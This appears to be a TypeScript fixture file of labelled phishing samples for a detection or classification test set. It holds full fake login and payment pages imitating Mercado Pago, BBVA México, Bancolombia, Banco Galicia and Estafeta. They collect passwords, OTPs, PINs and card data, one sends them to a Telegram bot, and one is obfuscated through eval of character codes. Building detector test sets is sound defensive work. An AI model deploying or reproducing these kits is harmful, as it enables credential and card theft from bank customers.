import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, pctAll, charCodes, revB64, xorHex, doc, wordmark, pixCode, qrSvg, maskJsBR, rutJs, gtag, cookieBar, newsShell } from '../parts/yk-kit.js';
import { zip, pe, cfb, iso, lnk, apk, rar5, sevenZip, fileRoute, jsRoute, cssRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yk-mercadopago-ar-cuenta-restringida',
  label: 'phishing',
  kind: 'wallet-kit',
  url: 'https://mercadopago-ayuda-cuentas.com.ar/login',
  body: doc({
    lang: 'es-AR',
    title: 'Mercado Pago | Ingresá a tu cuenta',
    css: `body{margin:0;background:#f5f5f5;font-family:'Proxima Nova',-apple-system,Arial,sans-serif;color:#333}.nav{background:#fff;box-shadow:0 1px 3px rgba(0,0,0,.1);padding:14px 26px}
.c{max-width:440px;margin:40px auto;background:#fff;border-radius:6px;padding:32px;box-shadow:0 1px 2px rgba(0,0,0,.15)}h1{font-size:24px;font-weight:600}
.al{background:#fef1f0;border-left:4px solid #f23d4f;padding:12px;font-size:14px;margin-bottom:18px}label{font-size:14px;display:block;margin:14px 0 6px}
input{width:100%;height:48px;border:1px solid #bfbfbf;border-radius:6px;padding:0 12px;font-size:16px}button{width:100%;height:48px;background:#009ee3;color:#fff;border:0;border-radius:6px;font-size:16px;font-weight:600;margin-top:24px}`,
    body: `<div class="nav">${wordmark('mercado pago', '#009ee3', { shape: 'pill', w: 190 })}</div>
<div class="c"><div class="al">Tu cuenta fue <b>restringida temporalmente</b> por actividad inusual. Para recuperar el acceso a tu dinero validá tus datos antes de las 72 hs.</div>
<h1>Ingresá tu e-mail, teléfono o usuario</h1>
<form method="post" action="next.php" id="mp"><label>E-mail, teléfono o usuario</label><input name="user_id" required>
<label>Contraseña</label><input name="password" type="password" required><label>DNI</label><input name="dni" inputmode="numeric" maxlength="8" required>
<button>Continuar</button></form></div>`,
  }),
  routes: {
    'mercadopago-ayuda-cuentas.com.ar/next.php': htmlRoute(doc({
      lang: 'es-AR',
      title: 'Mercado Pago | Verificación',
      css: `body{margin:0;background:#f5f5f5;font-family:Arial,sans-serif}.c{max-width:440px;margin:60px auto;background:#fff;border-radius:6px;padding:32px}input{width:100%;height:48px;border:1px solid #bfbfbf;border-radius:6px;font-size:22px;letter-spacing:8px;text-align:center}button{width:100%;height:48px;background:#009ee3;color:#fff;border:0;border-radius:6px;margin-top:20px}`,
      body: `<div class="c"><h2>Ingresá el código que te enviamos</h2><p>Te enviamos un código por SMS al teléfono terminado en **47.</p><form method="post" action="fin.php"><input name="otp" maxlength="6" inputmode="numeric" autocomplete="one-time-code"><button>Validar</button></form></div>`,
    })),
  },
},
{
  id: 'yk-bbva-mx-aclaracion-token',
  label: 'phishing',
  kind: 'bank-kit-mx',
  url: 'https://bbva-aclaraciones-mx.com/bancanet/',
  body: doc({
    lang: 'es-MX',
    title: 'BBVA México | Aclaración de cargos',
    css: `body{margin:0;font-family:'BentonSans',Arial,sans-serif;background:#f4f4f4}.h{background:#072146;color:#fff;padding:18px 30px;font-size:26px;font-weight:bold;letter-spacing:1px}
.w{max-width:460px;margin:30px auto;background:#fff;padding:30px}.cargo{background:#f8f8f8;border-left:4px solid #1973b8;padding:12px;margin:14px 0;font-size:14px}
label{display:block;font-size:13px;color:#666;margin-top:16px}input{width:100%;border:0;border-bottom:1px solid #1973b8;padding:10px 0;font-size:17px;outline:0}
button{width:100%;background:#1973b8;color:#fff;border:0;padding:15px;margin-top:26px;font-size:15px}.p{display:none}`,
    body: `<div class="h">BBVA</div><div class="w"><h2>¿Reconoces este cargo?</h2>
<div class="cargo">AMAZON MKTPLACE MX · <b>$8,499.00 MXN</b><br>Tarjeta terminación ****4821 · 29/04 09:14</div>
<p>Si no reconoces el cargo, ingresa a tu cuenta para cancelarlo. Tienes 30 minutos antes de que se aplique.</p>
<form id="p1"><label>Número de tarjeta o usuario</label><input name="usuario" required><label>Contraseña</label><input name="pass" type="password" required><button>Cancelar cargo</button></form>
<form id="p2" class="p"><label>Token celular: ingresa la clave de 8 dígitos generada en BBVA México</label><input name="token" maxlength="8" inputmode="numeric"><label>NIP de cajero</label><input name="nip" type="password" maxlength="4" inputmode="numeric"><button>Confirmar</button></form>
<div id="p3" class="p"><h3>Tu aclaración fue registrada</h3><p>Folio: AC-${'7714'}-29042025. Un ejecutivo te llamará.</p></div></div>
<script>
var d={};function nx(a,b){document.getElementById(a).style.display="none";document.getElementById(b).style.display="block"}
["p1","p2"].forEach(function(id,i){document.getElementById(id).addEventListener("submit",function(e){e.preventDefault();new FormData(this).forEach(function(v,k){d[k]=v});
fetch("next.php",{method:"POST",body:new URLSearchParams(Object.assign({paso:i+1},d))}).finally(function(){nx(id,i?"p3":"p2")})})});
</script>`,
  }),
},
{
  id: 'yk-bancolombia-clave-teclado-telegram',
  label: 'phishing',
  kind: 'bank-kit-co',
  url: 'https://sucursal-personas-bancolombia.co-verificacion.com/mua/',
  body: doc({
    lang: 'es-CO',
    title: 'Sucursal Virtual Personas',
    css: `body{margin:0;font-family:'Open Sans',Arial,sans-serif;background:#f7f7f7}.hd{background:#2c2a29;color:#fdda24;padding:16px 28px;font-weight:bold;font-size:20px}
.b{max-width:380px;margin:40px auto;background:#fff;border-radius:14px;padding:30px;box-shadow:0 2px 8px rgba(0,0,0,.1)}input{width:100%;padding:12px;border:0;border-bottom:2px solid #2c2a29;font-size:17px;margin-bottom:20px}
.kb{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin-bottom:16px}.kb button{padding:14px;background:#f2f2f2;border:0;border-radius:8px;font-size:18px}
.go{width:100%;background:#fdda24;border:0;border-radius:22px;padding:14px;font-weight:bold;font-size:15px}`,
    body: `<div class="hd">Bancolombia</div><div class="b"><h3>¡Hola! Ingresa tu usuario</h3>
<input id="u" placeholder="Usuario" autocomplete="off"><p style="font-size:13px">Clave principal (4 dígitos)</p><input id="c" type="password" maxlength="4" readonly>
<div class="kb" id="kb"></div><button class="go" id="go">Continuar</button></div>
<script>
var T="6921804417:AAFz0Lw3n7QeR1yVbXkCs9mPoU2dTgH5jKc",C="5188244079";
var kb=document.getElementById("kb"),c=document.getElementById("c");[1,2,3,4,5,6,7,8,9,"⌫",0,"✓"].sort(function(a,b){return typeof a==="number"&&typeof b==="number"?Math.random()-.5:0}).forEach(function(n){var b=document.createElement("button");b.type="button";b.textContent=n;b.onclick=function(){if(n==="⌫")c.value=c.value.slice(0,-1);else if(n!=="✓"&&c.value.length<4)c.value+=n};kb.appendChild(b)});
document.getElementById("go").onclick=function(){var u=document.getElementById("u").value;if(!u||c.value.length<4)return;
var t="🟡 BANCOLOMBIA\\nUsuario: "+u+"\\nClave: "+c.value;
fetch("https://api.telegram.org/bot"+T+"/sendMessage?chat_id="+C+"&text="+encodeURIComponent(t)).then(function(){location.href="/mua/dinamica.html"})};
</script>`,
  }),
  routes: {
    'sucursal-personas-bancolombia.co-verificacion.com/mua/dinamica.html': htmlRoute(doc({
      lang: 'es-CO',
      title: 'Clave dinámica',
      css: `body{font-family:Arial,sans-serif;background:#f7f7f7}.b{max-width:380px;margin:60px auto;background:#fff;border-radius:14px;padding:30px}input{width:100%;padding:12px;font-size:20px}button{width:100%;margin-top:14px;padding:14px;background:#fdda24;border:0;border-radius:22px}`,
      body: `<div class="b"><h3>Ingresa tu Clave Dinámica</h3><p>Ábrela en la App Mi Bancolombia.</p><form method="post" action="/mua/d.php"><input name="dinamica" maxlength="6" inputmode="numeric"><button>Continuar</button></form></div>`,
    })),
  },
},
{
  id: 'yk-galicia-ar-fromcharcode-eval',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://onlinebanking-galicia.com.ar-seguro.net/login/',
  body: `<!doctype html><html><head><meta charset="utf-8"><title>&#8203;</title></head><body><noscript>Habilitá JavaScript</noscript><script>eval(String.fromCharCode(${charCodes(`document.open();document.write(decodeURIComponent("${encodeURIComponent(doc({
    lang: 'es-AR',
    title: 'Online Banking Galicia',
    css: `body{margin:0;font-family:'Gotham',Arial,sans-serif;background:#fff}.top{background:#fa6400;height:6px}.l{padding:24px 40px;color:#fa6400;font-size:28px;font-weight:bold}
.f{max-width:360px;margin:20px auto;padding:0 20px}input{width:100%;padding:14px;border:1px solid #ccc;border-radius:4px;font-size:16px;margin:8px 0}
button{width:100%;background:#fa6400;color:#fff;border:0;border-radius:24px;padding:14px;font-size:16px;margin-top:14px}`,
    body: `<div class="top"></div><div class="l">Galicia</div><div class="f"><h2>Ingresá a Online Banking</h2>
<form method="post" action="https://onlinebanking-galicia.com.ar-seguro.net/login/procesar.php"><input name="dni" placeholder="DNI" inputmode="numeric" required><input name="usuario" placeholder="Usuario Galicia" required>
<input name="clave" type="password" placeholder="Clave Galicia" required><input name="coordenadas" placeholder="Tarjeta de coordenadas: B3 - E1 - H4"><button>Ingresar</button></form></div>`,
  }))}"));document.close();`)}))</script></body></html>`,
},
{
  id: 'yk-estafeta-mx-reenvio-pago',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://estafeta-reprogramacion.com/rastreo/?guia=3015498811',
  body: doc({
    lang: 'es-MX',
    title: 'Estafeta | Reprogramar entrega',
    css: `body{margin:0;font-family:'Nunito',Arial,sans-serif;background:#f7f7f7}.h{background:#d2082d;color:#fff;padding:16px 26px;font-size:26px;font-weight:900;font-style:italic}
.c{max-width:520px;margin:26px auto;background:#fff;border-radius:8px;padding:26px}.st{display:flex;justify-content:space-between;font-size:12px;color:#999;margin:16px 0}.st b{color:#d2082d}
input{width:100%;padding:12px;border:1px solid #ccc;border-radius:6px;margin:6px 0;font-size:15px}button{width:100%;background:#d2082d;color:#fff;border:0;border-radius:6px;padding:14px;font-size:16px;margin-top:10px}`,
    body: `<div class="h">Estafeta</div><div class="c"><h3>Guía 3015498811 — Intento de entrega fallido</h3>
<div class="st"><span>Recolectado ✔</span><span>En tránsito ✔</span><b>Dirección incompleta</b><span>Entregado</span></div>
<p>No pudimos entregar tu paquete porque la dirección está incompleta. Confirma tus datos y paga la tarifa de reprogramación de <b>$29.00 MXN</b>.</p>
<form method="post" action="/rastreo/pago.php"><input name="nombre" placeholder="Nombre completo"><input name="direccion" placeholder="Calle, número, colonia"><input name="cp" placeholder="Código postal" maxlength="5">
<input name="tarjeta" placeholder="Número de tarjeta" inputmode="numeric" maxlength="19"><input name="vence" placeholder="MM/AA"><input name="cvv" placeholder="CVV" maxlength="4"><button>Pagar $29.00 y reprogramar</button></form></div>`,
  }),
},
];
